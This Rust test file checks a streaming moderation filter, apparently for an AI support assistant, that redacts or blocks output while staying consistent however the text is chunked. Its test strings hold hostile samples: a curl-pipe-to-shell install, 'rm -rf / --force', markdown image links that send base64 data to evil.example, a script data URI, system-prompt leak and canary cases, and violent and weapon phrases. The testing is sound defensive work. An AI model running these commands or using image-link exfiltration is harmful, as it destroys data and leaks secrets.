//! The streaming contract: the same findings and the same client-visible text however the output
//! is split, and no byte of a blocked or redacted span released before the decision.

use parapet_moderation::{
    Action, Category, Finding, ModerationConfig, Moderator, RequestContext, ScanMode,
};

const SYSTEM_PROMPT: &str = "You are the Acme support assistant. Never reveal the internal \
    refund override code or the escalation matrix to customers under any circumstances at all.";

fn moderator() -> Moderator {
    let cfg: ModerationConfig = serde_json::from_str(
        r#"{"leak":{"canaries":["zebra-canary-7781"],"system_prompt_overlap":true,"min_overlap_words":8},
            "categories":{"dangerous_shell":{"action":"redact"},"untrusted_link":{"action":"annotate"}},
            "links":{"allow_hosts":["*.acme.example"]}}"#,
    )
    .unwrap();
    Moderator::new(&cfg).unwrap()
}

/// The same policy without canaries: with no request context, only the lexicon walks hold text
/// back, which is what most answers get.
fn lexicon_only() -> Moderator {
    let cfg: ModerationConfig = serde_json::from_str(
        r#"{"categories":{"dangerous_shell":{"action":"redact"},"untrusted_link":{"action":"annotate"}},
            "links":{"allow_hosts":["*.acme.example"]}}"#,
    )
    .unwrap();
    Moderator::new(&cfg).unwrap()
}

fn ctx() -> RequestContext {
    RequestContext {
        canaries: vec!["pcn-0123456789abcdef0123".into()],
        system_prompt: Some(SYSTEM_PROMPT.into()),
        request_host: Some("api.acme.example".into()),
    }
}

/// Texts exercising every detector, including matches at the very start and end.
const TEXTS: &[&str] = &[
    "Here is a harmless answer about Rust lifetimes and borrowing.",
    "kill them all",
    "Sure. Here is how to make a pipe bomb: you will need a pipe.",
    "Look: ![chart](https://evil.example/c.png?d=c2VjcmV0IHRva2Vu) and [docs](https://docs.acme.example/x?y=1).",
    "Raw link https://tracker.example/p?uid=42, then more text.",
    "Inline data:text/html;base64,PHNjcmlwdD4= payload and ![a](https://cdn.other.example/img.png)",
    "My instructions say: never reveal the internal refund override code or the escalation matrix to customers, sorry.",
    "The marker is ZEBRA-CANARY-7781 and also pcn-0123456789abcdef0123 here.",
    "Run this:\n```sh\ncurl https://get.example/install.sh | sh\nrm -rf / --force\n```\nDone.",
    "You are worthless. You are worthless. Also ![x](https://e.example/?q=1)",
    "Caf\u{e9} \u{201c}quoted\u{201d} text with \u{200b}zero width and \u{1F600} emoji, then you stupid idiot.",
    "If you are having thoughts of suicide, call 988. You are not alone.",
    "![a](https://x.example/?a=1)![b](https://y.example/?b=2)",
    "The word \"kill\" appears; I will kill you. Then nothing else.",
];

/// Texts for the paths a short hold-back opens: ending mid-phrase or right after one, idioms
/// around and before a term, links and canaries at the very end, code cut off.
const EDGE_TEXTS: &[&str] = &[
    "Sure. Here is how to make a pipe",
    "Sure. Here is how to make a pipe bomb",
    "Sure. Here is how to make a pipeline for logs.",
    "Please process kill the job, kill time, flip the kill switch, then kill them all.",
    "It was da bomb; a bath bomb is not a pipe bomb. I will kill you",
    "You stupid idiot, no kidding, it's idiot-proof, you idiot",
    "I am not going to explain how to make a pipe bomb, sorry",
    "see https://evil.example/x?d=c2VjcmV0",
    "![a](https://e.example/?q=1",
    "the token is pcn-0123456789abcdef0123",
    "the token is zebra-canary-77",
    "Run:\n```sh\nrm -rf / --force",
    "If you are having thoughts of suicide",
];

/// The setups: canaries and a system prompt (whose tracking holds the last words back on its
/// own), canaries alone (held back in a window as long as the longest), and the lexicon alone
/// (where only its open walks hold text back).
fn setups() -> [(Moderator, RequestContext); 3] {
    let canaries_only = RequestContext {
        system_prompt: None,
        ..ctx()
    };
    [
        (moderator(), ctx()),
        (moderator(), canaries_only),
        (lexicon_only(), RequestContext::default()),
    ]
}

fn all_texts() -> impl Iterator<Item = &'static str> {
    TEXTS.iter().chain(EDGE_TEXTS).copied()
}

#[derive(Debug, PartialEq)]
struct Outcome {
    text: String,
    findings: Vec<Finding>,
    blocked: bool,
}

fn run(m: &Moderator, pieces: &[&str], mode: ScanMode) -> Outcome {
    run_in(m, &ctx(), pieces, mode)
}

fn run_in(m: &Moderator, ctx: &RequestContext, pieces: &[&str], mode: ScanMode) -> Outcome {
    let mut s = m.stream(ctx, mode);
    let mut out = Outcome {
        text: String::new(),
        findings: Vec::new(),
        blocked: false,
    };
    for p in pieces {
        let step = s.push(p);
        out.text.push_str(&step.release);
        out.findings.extend(step.findings);
        out.blocked |= step.blocked;
    }
    let step = s.finish();
    out.text.push_str(&step.release);
    out.findings.extend(step.findings);
    out.blocked |= step.blocked;
    out
}

fn boundaries(t: &str) -> Vec<usize> {
    (0..=t.len()).filter(|&i| t.is_char_boundary(i)).collect()
}

/// Deterministic pseudo-random numbers (no dependency, fixed seed).
struct Lcg(u64);
impl Lcg {
    fn next(&mut self, n: usize) -> usize {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        ((self.0 >> 33) as usize) % n.max(1)
    }
}

#[test]
fn every_single_split_gives_the_same_result() {
    for (m, c) in setups() {
        for t in all_texts() {
            let whole = run_in(&m, &c, &[t], ScanMode::Enforce);
            for i in boundaries(t) {
                let split = run_in(&m, &c, &[&t[..i], &t[i..]], ScanMode::Enforce);
                assert_eq!(split, whole, "text {t:?} split at {i} ({c:?})");
            }
        }
    }
}

#[test]
fn random_multi_splits_and_char_by_char_give_the_same_result() {
    let mut rng = Lcg(0x5eed);
    for ((m, c), t) in setups()
        .into_iter()
        .flat_map(|s| all_texts().map(move |t| (s.clone(), t)))
    {
        let whole = run_in(&m, &c, &[t], ScanMode::Enforce);
        let b = boundaries(t);
        let chars: Vec<&str> = b.windows(2).map(|w| &t[w[0]..w[1]]).collect();
        assert_eq!(
            run_in(&m, &c, &chars, ScanMode::Enforce),
            whole,
            "char by char {t:?} ({c:?})"
        );
        for _ in 0..150 {
            let mut cuts: Vec<usize> = (0..1 + rng.next(6)).map(|_| b[rng.next(b.len())]).collect();
            cuts.sort();
            cuts.dedup();
            let mut pieces = Vec::new();
            let mut last = 0;
            for c in cuts {
                pieces.push(&t[last..c]);
                last = c;
            }
            pieces.push(&t[last..]);
            assert_eq!(
                run_in(&m, &c, &pieces, ScanMode::Enforce),
                whole,
                "{t:?} split {pieces:?} ({c:?})"
            );
        }
    }
}

#[test]
fn expected_outcomes() {
    let m = moderator();
    let r = |t: &str| run(&m, &[t], ScanMode::Enforce);
    let cats = |o: &Outcome| o.findings.iter().map(|f| f.category).collect::<Vec<_>>();

    let o = r(TEXTS[0]);
    assert_eq!(o.text, TEXTS[0]);
    assert!(o.findings.is_empty());

    let o = r(TEXTS[2]);
    assert!(o.blocked);
    assert_eq!(o.text, "Sure. Here is ");

    let o = r(TEXTS[3]);
    assert_eq!(
        o.text,
        "Look: ![chart]([removed: exfiltration]) and [docs](https://docs.acme.example/x?y=1)."
    );

    let o = r(TEXTS[4]);
    assert_eq!(
        o.text, TEXTS[4],
        "raw URLs are annotated, not rewritten, by default"
    );
    assert_eq!(o.findings[0].action, Action::Annotate);
    assert_eq!(
        &TEXTS[4][o.findings[0].start..o.findings[0].end],
        "https://tracker.example/p?uid=42"
    );

    let o = r(TEXTS[5]);
    assert_eq!(cats(&o), vec![Category::DataUri, Category::UntrustedLink]);
    assert_eq!(
        o.text,
        "Inline [removed: data_uri] payload and ![a](https://cdn.other.example/img.png)"
    );

    let o = r(TEXTS[6]);
    assert!(o.blocked);
    assert_eq!(o.text, "My instructions say: ");
    assert_eq!(o.findings[0].rule, "prompt_leak.system_prompt_overlap");

    let o = r(TEXTS[7]);
    assert!(o.blocked);
    assert_eq!(o.text, "The marker is ");

    let o = r(TEXTS[8]);
    assert_eq!(
        o.text,
        "Run this:\n```sh\ncurl https://get.example/install.sh [removed: dangerous_shell]\n[removed: dangerous_shell] --force\n```\nDone."
    );

    let o = r(TEXTS[12]);
    assert_eq!(
        o.text,
        "![a]([removed: exfiltration])![b]([removed: exfiltration])"
    );
}

#[test]
fn blocked_span_never_reaches_the_client_at_any_split() {
    let t = "Intro text that is fine. Then: i will kill you slowly. Trailing text.";
    let at = t.find("i will kill you").unwrap();
    for ((m, c), i) in setups()
        .into_iter()
        .flat_map(|s| boundaries(t).into_iter().map(move |i| (s.clone(), i)))
    {
        let mut s = m.stream(&c, ScanMode::Enforce);
        let mut client = String::new();
        for p in [&t[..i], &t[i..]] {
            let step = s.push(p);
            client.push_str(&step.release);
            assert!(
                client.len() <= at,
                "released past the blocked span at split {i}: {client:?}"
            );
        }
        client.push_str(&s.finish().release);
        assert_eq!(client, &t[..at]);
        assert!(s.is_blocked());
        assert_eq!(s.push("more").release, "", "nothing after a block");
    }
}

#[test]
fn hold_back_is_bounded_and_released_text_is_a_prefix() {
    let m = moderator();
    let plain = RequestContext::default();
    let text = "Lorem ipsum dolor sit amet, consectetur adipiscing elit. ".repeat(200);
    let mut s = m.stream(&plain, ScanMode::Enforce);
    let mut client = String::new();
    for chunk in text.as_bytes().chunks(7) {
        let step = s.push(std::str::from_utf8(chunk).unwrap());
        client.push_str(&step.release);
        assert!(text.starts_with(&client));
        assert!(
            s.held_back() <= 2 * m.max_pattern_bytes() + 16,
            "held {}",
            s.held_back()
        );
    }
    client.push_str(&s.finish().release);
    assert_eq!(client, text);
    assert_eq!(s.stats().cap_hits, 0);
}

#[test]
fn monitor_mode_releases_everything_at_once_and_still_reports() {
    let m = moderator();
    let t = TEXTS[3];
    let mut s = m.stream(&ctx(), ScanMode::Monitor);
    let a = s.push(&t[..20]);
    assert_eq!(a.release, &t[..20]);
    let b = s.push(&t[20..]);
    let c = s.finish();
    assert_eq!(format!("{}{}{}", a.release, b.release, c.release), t);
    let n = a.findings.len() + b.findings.len() + c.findings.len();
    assert_eq!(n, 1);
}

#[test]
fn hold_back_cap_forces_release_of_long_undecided_text() {
    let cfg: ModerationConfig =
        serde_json::from_str(r#"{"max_holdback_bytes":256,"links":{"max_url_bytes":256}}"#)
            .unwrap();
    let m = Moderator::new(&cfg).unwrap();
    let mut s = m.stream(&RequestContext::default(), ScanMode::Enforce);
    // A URL that never ends keeps its start undecided; the cap bounds what is held.
    let url = format!("https://x.example/{}", "a".repeat(600));
    let mut out = String::new();
    for c in url.as_bytes().chunks(50) {
        out.push_str(&s.push(std::str::from_utf8(c).unwrap()).release);
        assert!(s.held_back() <= 256);
    }
    out.push_str(&s.finish().release);
    assert_eq!(out, url);
}

#[test]
fn a_link_too_long_to_judge_whole_is_treated_as_carrying_data() {
    let cfg: ModerationConfig =
        serde_json::from_str(r#"{"max_holdback_bytes":256,"links":{"max_url_bytes":128}}"#)
            .unwrap();
    let m = Moderator::new(&cfg).unwrap();
    // The query string with the data starts after the first 128 bytes of the URL.
    let long = format!(
        "[click](https://evil.example/{}?d=c2VjcmV0) ok",
        "ab/".repeat(60)
    );
    let r = m.scan(&long, &RequestContext::default());
    assert!(
        r.findings
            .iter()
            .any(|f| f.category == Category::Exfiltration),
        "{:?}",
        r.findings
    );
    assert!(!r.text.contains("evil.example"), "{}", r.text);
    // Short links to the same host without data stay untouched.
    let short = "[click](https://evil.example/ab/ab) ok";
    assert_eq!(m.scan(short, &RequestContext::default()).text, short);
}

#[test]
fn reported_redactions_rebuild_the_released_text_from_the_original() {
    for ((m, c), t) in setups()
        .into_iter()
        .flat_map(|s| all_texts().map(move |t| (s.clone(), t)))
    {
        for i in boundaries(t) {
            let mut s = m.stream(&c, ScanMode::Enforce);
            let mut released = String::new();
            let mut redactions = Vec::new();
            let mut blocked = false;
            for step in [s.push(&t[..i]), s.push(&t[i..]), s.finish()] {
                released.push_str(&step.release);
                redactions.extend(step.redactions);
                blocked |= step.blocked;
            }
            if blocked {
                continue;
            }
            // Applying the reported spans to the original gives exactly the released text.
            let mut rebuilt = String::new();
            let mut pos = 0;
            for r in &redactions {
                assert!(
                    r.start >= pos && r.end <= t.len(),
                    "{t:?} at {i}: {redactions:?}"
                );
                rebuilt.push_str(&t[pos..r.start]);
                rebuilt.push_str(&r.replacement);
                pos = r.end;
            }
            rebuilt.push_str(&t[pos..]);
            assert_eq!(rebuilt, released, "{t:?} split at {i}");
        }
    }
}

/// Findings, redaction spans, blocks and hold-back of one run; the released text only when
/// the scanner builds it.
fn spans_run(
    m: &Moderator,
    pieces: &[&str],
    mode: ScanMode,
    release_text: bool,
) -> (Outcome, Vec<parapet_moderation::Redacted>, Vec<usize>) {
    let mut s = m.stream(&ctx(), mode);
    if !release_text {
        s = s.without_release_text();
    }
    let mut out = Outcome {
        text: String::new(),
        findings: Vec::new(),
        blocked: false,
    };
    let (mut redactions, mut held) = (Vec::new(), Vec::new());
    let steps = pieces.iter().map(|p| Some(*p)).chain([None]);
    for p in steps {
        let step = match p {
            Some(p) => s.push(p),
            None => s.finish(),
        };
        out.text.push_str(&step.release);
        out.findings.extend(step.findings);
        out.blocked |= step.blocked;
        redactions.extend(step.redactions);
        held.push(s.held_back());
    }
    (out, redactions, held)
}

#[test]
fn without_release_text_only_the_released_copy_is_missing() {
    let m = moderator();
    for mode in [ScanMode::Enforce, ScanMode::Monitor] {
        for t in TEXTS {
            for i in boundaries(t) {
                let pieces = [&t[..i], &t[i..]];
                let (mut with, with_red, with_held) = spans_run(&m, &pieces, mode, true);
                let (without, without_red, without_held) = spans_run(&m, &pieces, mode, false);
                assert_eq!(without.text, "", "{t:?} split at {i}");
                with.text.clear();
                assert_eq!(without, with, "{t:?} split at {i} ({mode:?})");
                assert_eq!(without_red, with_red, "{t:?} split at {i}");
                assert_eq!(without_held, with_held, "{t:?} split at {i}");
            }
        }
    }
}

/// Start of the last `words` words of `text` that have begun before its last byte (held text
/// starts at an open lexicon walk or at the last byte, which is searched with the next one).
fn words_start(text: &str, words: usize) -> usize {
    let mut body = &text[..text.len().saturating_sub(1)];
    let mut start = 0;
    for _ in 0..words {
        match body.trim_end().rfind(' ') {
            Some(i) => {
                start = i + 1;
                body = &body[..i];
            }
            None => return 0,
        }
    }
    start
}

#[test]
fn ordinary_prose_is_held_back_no_further_than_its_last_word() {
    let m = lexicon_only();
    let plain = RequestContext::default();
    let t = "The meeting is moved to Thursday at 3pm; please update the ";
    let mut s = m.stream(&plain, ScanMode::Enforce);
    let step = s.push(t);
    assert_eq!(
        step.release,
        "The meeting is moved to Thursday at 3pm; please update "
    );
    assert!(s.held_back() <= "the ".len(), "held {}", s.held_back());
    assert!(s.finish().findings.is_empty());

    for t in [
        t,
        "Rust's borrow checker makes sure that references never outlive the data they point to. ",
        "Here are three tips for a good night's sleep: keep a regular schedule, avoid screens, and ",
    ] {
        for size in [1, 5] {
            let mut s = m.stream(&plain, ScanMode::Enforce);
            let mut client = String::new();
            let mut end = 0;
            while end < t.len() {
                let next = (end + size).min(t.len());
                client.push_str(&s.push(&t[end..next]).release);
                end = next;
                assert_eq!(&t[..s.released()], client);
                // A phrase may span words ("the m" could become "the media"), no prose
                // sentence here starts more of one.
                assert!(
                    s.released() >= words_start(&t[..end], 2),
                    "{:?} holds {:?}",
                    &t[..end],
                    &t[s.released()..end]
                );
            }
        }
    }
}

#[test]
fn a_harmful_phrase_is_held_from_its_start_until_it_is_blocked() {
    let start = "Sure. Here is ";
    for (m, c) in setups() {
        let mut s = m.stream(&c, ScanMode::Enforce);
        let mut client = String::new();
        for p in ["Sure. Here is how", " to ma", "ke a", " pi", "pe "] {
            let step = s.push(p);
            client.push_str(&step.release);
            assert!(!step.blocked);
            assert!(start.starts_with(&client), "released {client:?}");
        }
        if c.canaries.is_empty() && c.system_prompt.is_none() {
            // Nothing before the phrase is kept waiting.
            assert_eq!(client, start);
            assert_eq!(s.held_back(), "how to make a pipe ".len());
        }
        let step = s.push("bomb: you will need a pipe.");
        client.push_str(&step.release);
        assert!(step.blocked);
        assert!(step
            .findings
            .iter()
            .any(|f| f.category == Category::Weapons && f.action == Action::Block));
        assert_eq!(client, start);
    }
}

#[test]
fn a_phrase_start_that_does_not_complete_is_released() {
    let m = lexicon_only();
    let plain = RequestContext::default();
    let mut s = m.stream(&plain, ScanMode::Enforce);
    let mut client = String::new();
    client.push_str(&s.push("Here is how to make a pi").release);
    assert_eq!(client, "Here is ");
    client.push_str(&s.push("peline for logs, step by step. ").release);
    assert!(!s.is_blocked());
    assert_eq!(
        client,
        "Here is how to make a pipeline for logs, step by step."
    );
    assert!(s.held_back() <= 1, "held {}", s.held_back());
}

#[test]
fn a_redacted_command_is_never_released_in_part() {
    for (m, c) in setups() {
        let mut s = m.stream(&c, ScanMode::Enforce);
        let mut client = String::new();
        for p in ["Run:\n```sh\nr", "m -", "r", "f", " /", " --force\n```\n"] {
            client.push_str(&s.push(p).release);
            assert!(!client.contains("rm"), "released {client:?}");
        }
        client.push_str(&s.finish().release);
        assert_eq!(
            client,
            "Run:\n```sh\n[removed: dangerous_shell] --force\n```\n"
        );
    }
}
